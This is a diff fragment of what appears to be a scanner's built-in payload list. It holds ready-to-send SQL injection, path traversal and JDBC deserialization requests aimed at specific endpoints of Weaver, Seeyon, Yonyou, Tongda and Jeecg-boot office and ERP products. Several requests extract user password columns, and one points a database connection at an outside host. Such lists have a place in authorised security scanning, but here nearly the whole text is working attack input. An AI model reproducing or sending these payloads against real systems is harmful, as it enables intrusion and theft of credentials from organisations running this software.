@@ -58,7 +58,6 @@ POST /mobile/browser/WorkflowCenterTreeData.jsp ¦¦ formids=«11111111111)))uni
 GET /js/hrm/getdata.jsp?cmd=getSelectAllId&sql=«select password as id from HrmResourceManager»
 GET /seeyon/ajax.do?method=query&name=«{sqli}»
 GET /yyoa/common/js/menu/test.jsp?doType=101&S1=«(SELECT user())»
-POST /general/document/index.php/recv/register/insert ¦¦ title)values("'"^exp(if(ascii(substr(MOD(5,2),1,1))<128,1,710)))# =1&_SERVER=
 GET /hrm/hrmAction.do?deptId=«{sqli}»
 """, _files: """
 GET /weaver/ln.FileDownload?fpath=../ecology/WEB-INF/web.xml
@@ -93,7 +92,7 @@ POST /datasource/test ¦¦ {"url":"jdbc:mysql://{outside}/t?autoDeserialize=true
 POST /jeecg-boot/jmreport/queryFieldBySql ¦¦ {"sql":"select 1 where updatexml(1,concat(0x7e,(select password from sys_user limit 1)),1)"}
 GET /jeecg-boot/sys/dict/getDictItems/«sys_user,password,id,1=1 and extractvalue(1,concat(0x7e,user()))»
 POST /jeecg-boot/sys/ng-alain/getDictItemsByTable ¦¦ table=«sys_user where updatexml(1,concat(0x7e,database()),1)»&key=username&text=password
-GET /report/data?dept=«{sqli}»&month={n}
+GET /report/data?dept=«{faulty}»&month={n}
 POST /olap/run ¦¦ {"dimension":"month","filter":"1=1) and 1=convert(int,@@version)--"}
 GET /sys/api/queryTableDictItemsByCode?tableName=«sys_user&keyword=1' and exp(~(select*from(select user())a))--»
 """}, """
